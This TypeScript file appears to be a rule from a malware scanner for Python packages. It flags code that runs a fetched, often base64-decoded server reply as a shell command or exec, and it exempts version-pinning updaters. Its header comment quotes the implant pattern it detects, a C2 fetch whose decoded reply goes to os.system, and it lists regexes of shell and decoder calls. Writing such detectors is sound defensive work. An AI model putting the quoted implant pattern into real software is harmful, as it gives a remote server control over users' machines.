// A server's reply run as a command: `resp = requests.get(C2)` then `os.system(base64.b64decode(resp.text))`.
// The shape of a remote-control implant in a trojanized client: nothing in the package says what will run.
import type { CallSite, ParsedFile } from '../python/index.js';
import {
  assignedText,
  bodyStart,
  callHit,
  DYNAMIC_EXEC,
  lastAssignment,
  NETWORK_CALL,
  namesOutsideStrings,
  PROCESS_CALL,
} from './context.js';
import type { Rule, RuleHit } from './types.js';

/** How far above a call its value may have been fetched (one function, in practice). */
const WINDOW = 200;
/** Assignments followed from the call's argument back to the fetch (`data = resp.text`, `resp = get(u)`). */
const MAX_HOPS = 3;
/** Names read from one argument text, and assignments looked up per call: a hostile file stays linear. */
const MAX_NAMES = 8;
const MAX_LOOKUPS = 24;
const MAX_TEXT = 400;
const DECODER =
  /\b(b64decode|b32decode|b85decode|a85decode|urlsafe_b64decode|decodebytes|decompress|fromhex|unhexlify|a2b_base64|decrypt)\s*\(/;
/** Calls that hand their argument to a shell. */
const SHELL_CALL =
  /^(os\.(system|popen[234]?)|subprocess\.(getoutput|getstatusoutput)|commands\.\w+|ctypes\.libc\.system|asyncio\.create_subprocess_shell|popen2\.\w+)$/;
/** A plain option or name, or a version pin of a named project whose version alone is filled in (`f'p=={v}'`). */
const FIXED_ARGUMENT =
  /^(['"])[\w.=<>~!,[\] -]*\1$|^f(['"])[A-Za-z0-9._-]+(\[[\w,]*\])?\s*(==|>=|<=|~=|!=)\s*\{\s*[A-Za-z_]\w*\s*\}\2$/;
const unquote = (e: string) => e.replace(/^(['"])(.*)\1$/, '$2');

/** The top-level elements of a list literal's text (`[a, f'{b}', 'c']`), or undefined for anything else. */
function listElements(text: string): string[] | undefined {
  if (!text.startsWith('[') || !text.endsWith(']')) return undefined;
  const out: string[] = [];
  let depth = 0;
  let quote = '';
  let start = 1;
  for (let i = 1; i < text.length - 1; i++) {
    const ch = text[i]!;
    if (quote) {
      if (ch === '\\') i++;
      else if (ch === quote) quote = '';
    } else if (ch === "'" || ch === '"') quote = ch;
    else if (ch === '[' || ch === '(' || ch === '{') depth++;
    else if (ch === ']' || ch === ')' || ch === '}') depth--;
    else if (ch === ',' && depth === 0) {
      out.push(text.slice(start, i).trim());
      start = i + 1;
    }
  }
  const last = text.slice(start, -1).trim();
  if (last) out.push(last);
  return out;
}

/**
 * An updater: pip installing a named project at the version a server reported (`pip install p=={latest}`). The
 * server picks a version of a project the code names, not what runs; a reply as a whole argument (`pip install
 * <url>`, `python -c <reply>`) is a command.
 */
function pinsAVersion(argv: string): boolean {
  const elements = listElements(argv);
  if (!elements) return false;
  const words = elements.map(unquote);
  const start =
    elements[0] === 'sys.executable' && words[1] === '-m' && words[2] === 'pip' && words[3] === 'install'
      ? 4
      : /^pip3?$/.test(words[0] ?? '') && words[1] === 'install'
        ? 2
        : -1;
  if (start < 0) return false;
  const rest = elements.slice(start);
  return rest.every((e) => FIXED_ARGUMENT.test(e)) && rest.some((e) => e.startsWith('f'));
}
const RESPONSE_READ = /\.(text|content|read|json|iter_content|readlines)\b/;
const networkLines = new WeakMap<ParsedFile, Map<number, CallSite>>();

function fetchOnLine(file: ParsedFile, line: number): CallSite | undefined {
  let byLine = networkLines.get(file);
  if (!byLine) {
    byLine = new Map();
    for (const c of file.calls)
      if (c.role !== 'test' && NETWORK_CALL.test(c.name) && !byLine.has(c.line)) byLine.set(c.line, c);
    networkLines.set(file, byLine);
  }
  return byLine.get(line);
}

/** The fetch whose reply `text` (an argument, or a right-hand side) carries, and whether it was decoded on the way. */
function fetchedInto(
  file: ParsedFile,
  text: string,
  line: number,
  from: number,
  hops: number,
  budget = { lookups: MAX_LOOKUPS },
): { fetch: CallSite; decoded: boolean } | undefined {
  const decoded = DECODER.test(text);
  const inline = fetchOnLine(file, line);
  if (inline && text.includes(inline.text.slice(0, 40)) && RESPONSE_READ.test(text))
    return { fetch: inline, decoded };
  if (hops >= MAX_HOPS) return undefined;
  for (const name of namesOutsideStrings(text, MAX_NAMES)) {
    if (--budget.lookups < 0) return undefined;
    const at = lastAssignment(file, name, from, line - 1);
    if (at === undefined) continue;
    const rhs = assignedText(file, at, MAX_TEXT);
    const fetch = fetchOnLine(file, at);
    if (fetch && rhs.includes(fetch.text.slice(0, 40))) {
      // `resp = requests.get(u)` is the reply object: the argument must read it (`resp.text`), or it is the body.
      if (RESPONSE_READ.test(text) || RESPONSE_READ.test(rhs))
        return { fetch, decoded: decoded || DECODER.test(rhs) };
      continue;
    }
    const deeper = fetchedInto(file, rhs, at, from, hops + 1, budget);
    if (deeper) return { fetch: deeper.fetch, decoded: decoded || deeper.decoded };
  }
  return undefined;
}

export const remoteCommand: Rule = {
  id: 'remote-command',
  category: 'dynamic-code',
  severity: 'critical',
  description:
    'Runs what a server sent: a fetched reply handed to a shell or made the command of a process call (critical when the reply is decoded first), or decoded and passed to exec. A reply passed as one argument of a program the code names (an updater installing the version a server reports) is left alone.',
  rationale:
    'An installer may run a script it downloads from a named site; no honest package base64-decodes a reply and runs it as a command. That is a remote-control implant: the server decides what runs.',
  check: (file) => {
    const hits: RuleHit[] = [];
    for (const c of file.calls) {
      if (c.role === 'test') continue;
      const isProcess = PROCESS_CALL.test(c.name);
      if (!isProcess && !DYNAMIC_EXEC.test(c.name)) continue;
      const found = fetchedInto(
        file,
        c.args.join(', ').slice(0, MAX_TEXT),
        c.line,
        bodyStart(file, c, WINDOW),
        0,
      );
      if (!found || (!isProcess && !found.decoded)) continue;
      // pip installing the version a server reported (`pip install p=={latest}`) is an updater, not a remote
      // command: the server picks a version of a project the code names, not what runs.
      if (
        isProcess &&
        !found.decoded &&
        !SHELL_CALL.test(c.name) &&
        !c.args.some((a) => /^shell\s*=\s*True/.test(a)) &&
        pinsAVersion(c.args[0]?.trim() ?? '')
      )
        continue;
      const severity = isProcess && found.decoded ? 'critical' : 'high';
      const how = found.decoded ? 'decoded reply' : 'reply';
      hits.push(
        callHit(c, severity, `${c.name} runs the ${how} of ${found.fetch.name} (line ${found.fetch.line})`),
      );
    }
    return hits;
  },
};
